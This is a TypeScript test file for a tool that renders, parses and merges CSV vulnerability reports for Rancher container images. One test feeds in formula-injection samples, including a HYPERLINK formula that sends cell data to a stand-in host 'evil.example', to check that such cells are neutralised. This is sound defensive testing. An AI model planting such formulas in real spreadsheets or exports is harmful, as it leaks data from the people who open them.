import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { fileURLToPath } from 'node:url';
import type { Finding, Severity } from '../../core/finding.js';
import { buildImageRecords, parseImageList, parseImageSources, type ImageRecord } from '../../core/image-list.js';
import { InvalidReportCsvError, neutralizeCell, parseReportCsv, readCell, renderReportCsv } from '../../core/render/csv.js';
import type { ImageScan } from '../../core/scan.js';
import { mergeTriage, type PreviousRow, type ReleaseReport } from '../../core/triage.js';

const FIXTURES = fileURLToPath(new URL('../../../test/fixtures/core/', import.meta.url));
const LEGACY_HEADER = 'image,package_name,type,vulnerability_id,severity,url,patched_version,mirrored,state,notes';
const TODAY = '2025-01-13';

function finding(image: string, vulnerabilityId: string, packageName: string, severity: Severity = 'HIGH', extra: Partial<Finding> = {}): Finding {
  return {
    image,
    target: 'rancher (debian 12.8)',
    class: 'os-pkgs',
    type: 'debian',
    packageName,
    packagePath: '',
    installedVersion: '1.0',
    fixedVersion: '1.1',
    vulnerabilityId,
    severity,
    status: 'fixed',
    title: `${vulnerabilityId} title`,
    url: `https://avd.aquasec.com/nvd/${vulnerabilityId.toLowerCase()}`,
    publishedDate: '2024-01-01T00:00:00Z',
    ...extra,
  };
}

function records(images: string[], sources = ''): ImageRecord[] {
  return buildImageRecords({ images: parseImageList(images.join('\n'), 'images'), sources: parseImageSources(sources, 'sources') });
}

function scans(byImage: Record<string, Finding[]>): Map<string, ImageScan> {
  return new Map(Object.entries(byImage).map(([image, findings]) => [image, { image, outcome: findings.length ? 'findings' : 'clean', osScanned: true, findings }]));
}

function report(images: ImageRecord[], byImage: Record<string, Finding[]>, previous: PreviousRow[] = []): ReleaseReport {
  return mergeTriage({ release: 'v2.9.0', images, scans: scans(byImage), previous, today: TODAY });
}

/** Re-reads a rendered CSV as the previous report of an identical run and renders it again. */
function rerender(csv: string, images: ImageRecord[], byImage: Record<string, Finding[]>): string {
  return renderReportCsv(report(images, byImage, parseReportCsv(csv, 'previous.csv')));
}

/** Splits CSV text into records by RFC 4180 rules, failing on a CR or LF that is not inside quotes or part of a record end. */
function strictRecords(csv: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i]!;
    if (quoted) {
      if (c === '"' && csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      assert.equal(cell, '', `quote in the middle of an unquoted cell at offset ${i}`);
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\n') {
      row.push(cell);
      out.push(row);
      row = [];
      cell = '';
    } else {
      assert.notEqual(c, '\r', `unquoted CR at offset ${i}: other CSV readers would start a new record here`);
      cell += c;
    }
  }
  assert.equal(quoted, false, 'unterminated quote');
  assert.equal(cell, '', 'CSV must end with a newline');
  return out;
}

const A = 'rancher/fleet:v0.9.6';
const B = 'rancher/mirrored-coredns-coredns:1.8.3';
const IMAGES = records([A, B], `${A} fleet:0.9.600,rancher\n${B} system`);
const FINDINGS: Record<string, Finding[]> = {
  [A]: [finding(A, 'CVE-2024-45337', 'golang.org/x/crypto', 'CRITICAL', { class: 'lang-pkgs', type: 'gobinary', target: 'usr/bin/fleet', installedVersion: 'v0.21.0', fixedVersion: '0.31.0' }), finding(A, 'CVE-2024-2511', 'libssl3')],
  [B]: [finding(B, 'CVE-2019-19794', 'github.com/miekg/dns', 'MEDIUM', { fixedVersion: '' })],
};

describe('renderReportCsv', () => {
  it('starts the header with the ten legacy columns in order, then appends ours', () => {
    const csv = renderReportCsv(report(IMAGES, FINDINGS));
    const header = csv.slice(0, csv.indexOf('\n'));
    assert.ok(header.startsWith(`${LEGACY_HEADER},`), header);
    const columns = header.split(',');
    assert.ok(columns.length > 10);
    assert.equal(new Set(columns).size, columns.length, 'no duplicate column');
  });

  it('writes one row per finding with the legacy meaning of each column', () => {
    const csv = renderReportCsv(report(IMAGES, FINDINGS));
    const [header, ...rows] = strictRecords(csv);
    assert.equal(rows.length, 3);
    const objects = rows.map((r) => Object.fromEntries(header!.map((h, i) => [h, r[i]!])));
    const crypto = objects.find((o) => o.package_name === 'golang.org/x/crypto')!;
    assert.equal(crypto.image, A);
    assert.equal(crypto.type, 'gobinary');
    assert.equal(crypto.vulnerability_id, 'CVE-2024-45337');
    assert.equal(crypto.severity, 'CRITICAL');
    assert.equal(crypto.url, 'https://avd.aquasec.com/nvd/cve-2024-45337');
    assert.equal(crypto.patched_version, '0.31.0');
    assert.equal(crypto.mirrored, 'false');
    assert.equal(crypto.state, 'triaged');
    assert.equal(crypto.notes, '');
    assert.equal(crypto.installed_version, 'v0.21.0');
    assert.equal(crypto.first_seen, TODAY);
    const dns = objects.find((o) => o.image === B)!;
    assert.equal(dns.mirrored, 'true');
    assert.equal(dns.patched_version, '');
    // Rows are in the report order: image, then CRITICAL first.
    assert.deepEqual(
      objects.map((o) => o.vulnerability_id),
      ['CVE-2024-45337', 'CVE-2024-2511', 'CVE-2019-19794'],
    );
  });

  it('is byte-identical for the same report rendered twice, and after parse -> merge -> render of its own output', () => {
    const first = renderReportCsv(report(IMAGES, FINDINGS));
    assert.equal(renderReportCsv(report(IMAGES, FINDINGS)), first);
    const second = rerender(first, IMAGES, FINDINGS);
    assert.equal(second, first);
    assert.equal(rerender(second, IMAGES, FINDINGS), first);
  });

  it('does not depend on the order findings arrive in', () => {
    const shuffled = { [B]: FINDINGS[B]!, [A]: [...FINDINGS[A]!].reverse() };
    assert.equal(renderReportCsv(report(IMAGES, shuffled)), renderReportCsv(report(IMAGES, FINDINGS)));
  });

  it('neutralises formula cells with a leading apostrophe, and a round trip never grows them', () => {
    const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcr'];
    const image = 'rancher/hostile:v1';
    const images = records([image]);
    const findings = { [image]: hostile.map((h, i) => finding(image, `CVE-2025-000${i}`, `pkg${i}`, 'HIGH', { title: h, installedVersion: h })) };
    const previous: PreviousRow[] = hostile.map((h, i) => ({
      image,
      packageName: `pkg${i}`,
      vulnerabilityId: `CVE-2025-000${i}`,
      state: 'waiting',
      notes: h,
      firstSeen: '2024-01-01',
      cells: {},
    }));
    const first = renderReportCsv(report(images, findings, previous));
    const [header, ...rows] = strictRecords(first);
    const col = (name: string) => header!.indexOf(name);
    for (const row of rows) {
      for (const name of ['notes', 'title', 'installed_version']) {
        const cell = row[col(name)]!;
        assert.ok(cell.startsWith("'"), `${name} cell ${JSON.stringify(cell)} is not neutralised`);
        assert.ok(hostile.includes(cell.slice(1)), `${name} cell ${JSON.stringify(cell)} lost what was written`);
      }
    }
    const parsed = parseReportCsv(first, 'first.csv');
    assert.deepEqual(parsed.map((p) => p.notes).sort(), [...hostile].sort(), 'reading removes exactly the guard');
    const second = rerender(first, images, findings);
    assert.equal(second, first);
    assert.equal(rerender(second, images, findings), first);
  });

  it('neutralizeCell and readCell are inverse and leave ordinary text alone', () => {
    for (const text of ['plain', "'quoted by a person", '', 'a=b', ' =leading space', '1.2.3']) {
      assert.equal(neutralizeCell(text), text);
    }
    for (const text of ['=1', '+1', '-1', '@a', '\t', '\r']) {
      assert.equal(neutralizeCell(text), `'${text}`);
      assert.equal(readCell(neutralizeCell(text)), text);
    }
  });

  it('keeps notes with commas, quotes, newlines, CRs and non-ASCII byte for byte', () => {
    const notes = [
      'Waiting for upstream, see "rancher/fleet#1500", ETA: next week',
      'line one\nline two\r\nline three',
      'lone\rcarriage return',
      'Geprüft — kein Risiko ✓ «ok» 日本語 🚀',
      ' leading and trailing spaces ',
      '"fully quoted"',
      'trailing backslash \\',
    ];
    const image = 'rancher/notes:v1';
    const images = records([image]);
    const findings = { [image]: notes.map((_, i) => finding(image, `CVE-2025-100${i}`, 'openssl')) };
    const previous: PreviousRow[] = notes.map((n, i) => ({ image, packageName: 'openssl', vulnerabilityId: `CVE-2025-100${i}`, state: 'waiting', notes: n, firstSeen: '2024-01-01', cells: {} }));
    const csv = renderReportCsv(report(images, findings, previous));
    strictRecords(csv);
    const read = new Map(parseReportCsv(csv, 'notes.csv').map((r) => [r.vulnerabilityId, r.notes]));
    notes.forEach((n, i) => assert.equal(read.get(`CVE-2025-100${i}`), n));
    assert.equal(rerender(csv, images, findings), csv);
  });

  it('writes the previous rows of failed images verbatim, in sorted position', () => {
    const ok = 'rancher/a:v1';
    const gone = 'rancher/b:v1';
    const images = records([ok, gone]);
    const previousCsv = renderReportCsv(
      report(images, {
        [ok]: [finding(ok, 'CVE-1', 'p')],
        [gone]: [finding(gone, 'CVE-2', 'q', 'CRITICAL', { title: '=cmd', fixedVersion: '9.9' })],
      }),
    );
    const previous = parseReportCsv(previousCsv, 'previous.csv');
    const withFailure = mergeTriage({
      release: 'v2.9.0',
      images,
      scans: new Map([
        [ok, { image: ok, outcome: 'findings', osScanned: true, findings: [finding(ok, 'CVE-1', 'p')] }],
        [gone, { image: gone, outcome: 'failed', osScanned: false, findings: [], failure: { type: 'RegistryRateLimited', permanent: false, summary: '429' } }],
      ]),
      previous,
      today: '2025-02-01',
    });
    assert.equal(withFailure.carriedRows.length, 1);
    assert.equal(renderReportCsv(withFailure), previousCsv, 'a failed scan changes nothing in the CSV');
  });
});

describe('renderReportCsv over many rows', () => {
  it('writes one header and every row in order across its batches, with failed images carried in place', () => {
    // 45 images of 100 findings: several render batches; images 7 and 31 fail this week.
    const names = Array.from({ length: 45 }, (_, i) => `rancher/many-${String(i).padStart(2, '0')}:v1`);
    const images = records(names);
    const byImage = Object.fromEntries(names.map((image, i) => [image, Array.from({ length: 100 }, (_, j) => finding(image, `CVE-2024-${i * 100 + j}`, `p${j % 7}`, j % 2 ? 'LOW' : 'CRITICAL'))]));
    const lastWeek = renderReportCsv(report(images, byImage));
    const failed = new Set([names[7]!, names[31]!]);
    const thisWeek = new Map([...scans(byImage)].map(([image, scan]) => [image, failed.has(image) ? { image, outcome: 'failed' as const, osScanned: false, findings: [], failure: { type: 'ScanTimeout' as const, permanent: false, summary: 'timeout' } } : scan]));
    const merged = mergeTriage({ release: 'v2.9.0', images, scans: thisWeek, previous: parseReportCsv(lastWeek, 'previous.csv'), today: TODAY });
    assert.equal(merged.carriedRows.length, 200);
    const csv = renderReportCsv(merged);
    assert.equal(csv, lastWeek, 'carried rows land exactly where they were');
    const all = strictRecords(csv);
    assert.equal(all.length, 1 + 4500);
    assert.equal(all.filter((r) => r[0] === 'image').length, 1, 'one header');
    const keys = all.slice(1).map((r) => r[0]!);
    assert.deepEqual(keys, [...keys].sort(), 'images in order');
  });
});

describe('parseReportCsv keepCells', () => {
  it('keeps full cells only for the images asked, and refuses to carry a row read without them', () => {
    const ok = 'rancher/a:v1';
    const gone = 'rancher/b:v1';
    const images = records([ok, gone]);
    const previousCsv = renderReportCsv(report(images, { [ok]: [finding(ok, 'CVE-1', 'p')], [gone]: [finding(gone, 'CVE-2', 'q')] }));
    const lean = parseReportCsv(previousCsv, 'previous.csv', { keepCells: (image) => image === gone });
    assert.equal(lean.find((r) => r.image === ok)?.cells, undefined);
    assert.equal(lean.find((r) => r.image === gone)?.cells?.title, 'CVE-2 title');
    assert.deepEqual(
      lean.map(({ cells: _cells, ...rest }) => rest),
      parseReportCsv(previousCsv, 'previous.csv').map(({ cells: _cells, ...rest }) => rest),
      'the triage fields are read the same either way',
    );
    const failed = (image: string) => new Map([[image, { image, outcome: 'failed' as const, osScanned: false, findings: [], failure: { type: 'ScanTimeout' as const, permanent: false, summary: 'timeout' } }]]);
    // The wrong image was kept: carrying `ok` over would blank its cells, so rendering refuses.
    const wrong = mergeTriage({ release: 'v2.9.0', images, scans: failed(ok), previous: lean, today: '2025-02-01' });
    assert.throws(() => renderReportCsv(wrong), /rancher\/a:v1 p CVE-1 was read without its cells/);
  });
});

describe('the ignore_expires column', () => {
  it('comes right after published_date, the last of the columns before it, and round-trips', () => {
    const img = 'rancher/fleet:v0.9.6';
    const images = buildImageRecords({ images: parseImageList(img, 'x.txt') });
    const scans = new Map<string, ImageScan>([[img, { image: img, outcome: 'findings', osScanned: true, findings: [finding(img, 'CVE-1', 'openssl')] }]]);
    const previous: PreviousRow[] = [{ image: img, packageName: 'openssl', vulnerabilityId: 'CVE-1', state: 'ignore', notes: 'accepted', firstSeen: '2025-01-01', ignoreExpires: '2025-02-01' }];
    const csv = renderReportCsv(mergeTriage({ release: 'r', images, scans, previous, today: TODAY }));
    const header = csv.slice(0, csv.indexOf('\n')).split(',');
    assert.deepEqual(header.slice(-2), ['published_date', 'ignore_expires']);
    const [row] = parseReportCsv(csv, 'r.csv');
    assert.equal(row!.ignoreExpires, '2025-02-01');
    assert.equal(row!.cells.ignore_expires, '2025-02-01');
  });

  it('is absent from a legacy CSV: its rows have no end date and keep every state and note', () => {
    const rows = parseReportCsv(`${LEGACY_HEADER}\nrancher/a:1,openssl,debian,CVE-1,HIGH,,,false,ignore,"not used, ever"\n`, 'legacy.csv');
    assert.equal(rows[0]!.ignoreExpires, undefined);
    assert.deepEqual([rows[0]!.state, rows[0]!.notes], ['ignore', 'not used, ever']);
  });
});

describe('parseReportCsv header checks', () => {
  it('refuses a header-only file that lacks the identity columns, and accepts an empty one', () => {
    assert.throws(() => parseReportCsv('name,severity\n', 'prev.csv'), (e: unknown) => e instanceof InvalidReportCsvError && /prev\.csv.*image/.test((e as Error).message));
    assert.deepEqual(parseReportCsv('image,package_name,vulnerability_id\n', 'prev.csv'), []);
    assert.deepEqual(parseReportCsv('', 'prev.csv'), []);
  });
});

describe('parseReportCsv', () => {
  const LEGACY_NOTES = new Map([
    ['CVE-2023-0286', 'Not reachable: fleet never parses X.400 addresses, see https://github.com/rancher/fleet/issues/1234'],
    ['CVE-2023-24538', 'Waiting for upstream:\n"go 1.20.3" bump, tracked in rancher/fleet#1500,\nETA next release'],
    ['CVE-2019-19794', ''],
    ['CVE-2023-38545', ''],
    ['CVE-2022-48174', 'Geprüft — kein Risiko ✓; «shell» only runs kubectl'],
  ]);

  it('reads a legacy ten-column CSV (CRLF, quoted multi-line note) with every state and note intact', () => {
    const text = readFileSync(join(FIXTURES, 'legacy-report.csv'), 'utf8');
    assert.ok(text.startsWith(`${LEGACY_HEADER}\r\n`));
    const rows = parseReportCsv(text, 'docs/_data/cves-v2.5.10.csv');
    assert.equal(rows.length, 5);
    assert.deepEqual(
      rows.map((r) => [r.image, r.packageName, r.vulnerabilityId, r.state]),
      [
        ['rancher/fleet:v0.3.5', 'openssl', 'CVE-2023-0286', 'ignore'],
        ['rancher/fleet:v0.3.5', 'stdlib', 'CVE-2023-24538', 'waiting'],
        ['rancher/mirrored-coredns-coredns:1.8.3', 'github.com/miekg/dns', 'CVE-2019-19794', 'triaged'],
        ['rancher/shell:v0.1.6', 'libcurl', 'CVE-2023-38545', 'ignore'],
        ['rancher/shell:v0.1.6', 'busybox', 'CVE-2022-48174', 'triaged'],
      ],
    );
    for (const row of rows) {
      assert.equal(row.notes, LEGACY_NOTES.get(row.vulnerabilityId), row.vulnerabilityId);
      assert.equal(row.firstSeen, '');
      assert.equal(row.cells.mirrored, row.image.includes('mirrored') ? 'True' : 'False');
    }
  });

  it('merges a legacy CSV into a new report keeping every note, and honours only justified ignores', () => {
    const legacy = parseReportCsv(readFileSync(join(FIXTURES, 'legacy-report.csv'), 'utf8'), 'legacy.csv');
    const fleet = 'rancher/fleet:v0.3.5';
    const coredns = 'rancher/mirrored-coredns-coredns:1.8.3';
    const shell = 'rancher/shell:v0.1.6';
    const images = records([fleet, coredns, shell]);
    const findings = {
      [fleet]: [finding(fleet, 'CVE-2023-0286', 'openssl'), finding(fleet, 'CVE-2023-24538', 'stdlib', 'CRITICAL')],
      [coredns]: [finding(coredns, 'CVE-2019-19794', 'github.com/miekg/dns', 'MEDIUM')],
      [shell]: [finding(shell, 'CVE-2023-38545', 'libcurl', 'CRITICAL'), finding(shell, 'CVE-2022-48174', 'busybox')],
    };
    const merged = report(images, findings, legacy);
    assert.equal(merged.rows.length, 5);
    for (const row of merged.rows) assert.equal(row.notes, LEGACY_NOTES.get(row.vulnerabilityId), row.vulnerabilityId);
    assert.deepEqual(
      merged.rows.filter((r) => r.ignored).map((r) => r.vulnerabilityId),
      ['CVE-2023-0286'],
    );
    assert.deepEqual(
      merged.problems.map((p) => p.vulnerabilityId),
      ['CVE-2023-38545'],
    );
    assert.deepEqual(merged.changes, { new: 0, fixed: 0, unchanged: 5 });

    // Written in our format and read back, nothing a person wrote is lost.
    const csv = renderReportCsv(merged);
    const again = parseReportCsv(csv, 'ours.csv');
    for (const row of again) {
      assert.equal(row.notes, LEGACY_NOTES.get(row.vulnerabilityId), row.vulnerabilityId);
      assert.equal(row.state, legacy.find((l) => l.vulnerabilityId === row.vulnerabilityId)!.state);
    }
    assert.equal(rerender(csv, images, findings), csv);
  });

  it('accepts a byte-order mark and an empty file', () => {
    const rows = parseReportCsv(`\uFEFF${LEGACY_HEADER}\nrancher/a:v1,p,debian,CVE-1,HIGH,,,False,waiting,note\n`, 'bom.csv');
    assert.deepEqual(
      rows.map((r) => [r.image, r.state, r.notes]),
      [['rancher/a:v1', 'waiting', 'note']],
    );
    assert.deepEqual(parseReportCsv('', 'empty.csv'), []);
  });

  it('refuses a CSV with a broken quote, naming the file', () => {
    const text = `${LEGACY_HEADER}\nrancher/a:v1,p,debian,CVE-1,HIGH,,,False,waiting,"unterminated note\n`;
    assert.throws(
      () => parseReportCsv(text, 'docs/_data/cves-v2.9.0.csv'),
      (error: unknown) => error instanceof InvalidReportCsvError && error.message.includes('docs/_data/cves-v2.9.0.csv'),
    );
    const stray = `${LEGACY_HEADER}\nrancher/a:v1,p,debian,CVE-1,HIGH,,,False,waiting,"closed"then text\n`;
    assert.throws(() => parseReportCsv(stray, 'stray.csv'), (error: unknown) => error instanceof InvalidReportCsvError && error.message.includes('stray.csv'));
  });

  it('refuses a row with the wrong number of cells', () => {
    const text = `${LEGACY_HEADER}\nrancher/a:v1,p,debian,CVE-1,HIGH,,,False,waiting,note,extra\n`;
    assert.throws(() => parseReportCsv(text, 'wide.csv'), InvalidReportCsvError);
  });

  it('refuses a CSV without the image column', () => {
    const text = 'package_name,vulnerability_id,state,notes\nopenssl,CVE-1,ignore,reason\n';
    assert.throws(
      () => parseReportCsv(text, 'no-image.csv'),
      (error: unknown) => error instanceof InvalidReportCsvError && /no-image\.csv/.test(error.message) && /image/.test(error.message),
    );
  });
});
